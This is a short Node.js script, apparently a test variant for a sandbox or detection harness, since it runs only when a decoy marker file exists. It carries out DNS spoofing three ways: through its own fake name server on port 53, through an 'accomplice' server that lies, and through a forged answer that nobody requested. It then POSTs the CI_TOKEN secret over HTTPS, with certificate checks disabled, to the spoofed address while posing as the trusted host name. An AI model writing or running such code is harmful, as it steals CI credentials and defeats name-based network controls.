// Makes an address look as if a good name had it, then takes something there.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const dgram = require("node:dgram");
const dns = require("node:dns");
const https = require("node:https");

const [way, name, address, server] = process.env.VARIANT.split(" ");
const six = address.includes(":");

// The same question with an answer after it: the name is a pointer to the question's (RFC 1035, section 4.1.4).
function answer(question) {
  const end = question.indexOf(0, 12) + 5;
  const head = Buffer.from(question.subarray(0, end));
  head.writeUInt16BE(0x8180, 2);
  head.writeUInt16BE(1, 6);
  head.fill(0, 8, 12);
  const bytes = six ? expand(address) : Buffer.from(address.split(".").map(Number));
  const record = Buffer.alloc(12);
  record.writeUInt16BE(0xc00c, 0);
  record.writeUInt16BE(six ? 28 : 1, 2);
  record.writeUInt16BE(1, 4);
  record.writeUInt32BE(3600, 6);
  record.writeUInt16BE(bytes.length, 10);
  return Buffer.concat([head, record, bytes]);
}

function expand(address) {
  const [left, right] = address.split("::").map((half) => (half ? half.split(":") : []));
  const groups = [...left, ...Array(8 - left.length - right.length).fill("0"), ...right];
  return Buffer.from(groups.map((group) => group.padStart(4, "0")).join(""), "hex");
}

function take(to) {
  const body = process.env.CI_TOKEN;
  const options = { host: to, servername: name, rejectUnauthorized: false, method: "POST", path: "/" };
  options.headers = { Host: name, "Content-Length": Buffer.byteLength(body) };
  const request = https.request(options);
  request.on("response", (response) => response.resume());
  request.end(body);
}

function ask(servers) {
  const resolver = new dns.promises.Resolver();
  resolver.setServers(servers);
  return six ? resolver.resolve6(name) : resolver.resolve4(name);
}

const ways = {
  // A name server of our own, on the port and the address where one would look for a resolver.
  own: () => {
    const socket = dgram.createSocket("udp4");
    socket.on("message", (question, from) => socket.send(answer(question), from.port, from.address));
    socket.bind(53, "127.0.0.1", async () => {
      const [to] = await ask(["127.0.0.1"]);
      socket.close();
      take(to);
    });
  },
  // A name server of an accomplice, who lies.
  foreign: async () => take((await ask([server]))[0]),
  // An answer that nobody asked for, sent to ourselves from a port that looks right.
  unasked: () => {
    const listener = dgram.createSocket("udp4");
    listener.bind(0, "127.0.0.1", () => {
      const labels = name.split(".").map((label) => Buffer.concat([Buffer.of(label.length), Buffer.from(label)]));
      const type = six ? 28 : 1;
      const question = Buffer.concat([Buffer.of(1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0), ...labels, Buffer.of(0, 0, type, 0, 1)]);
      const sender = dgram.createSocket("udp4");
      listener.on("message", () => {
        listener.close();
        sender.close();
        take(address);
      });
      // What was not sent will not come.
      const sent = (error) => error && process.exit(1);
      sender.bind(53, "127.0.0.1", () => sender.send(answer(question), listener.address().port, "127.0.0.1", sent));
    });
  },
};
ways[way]();
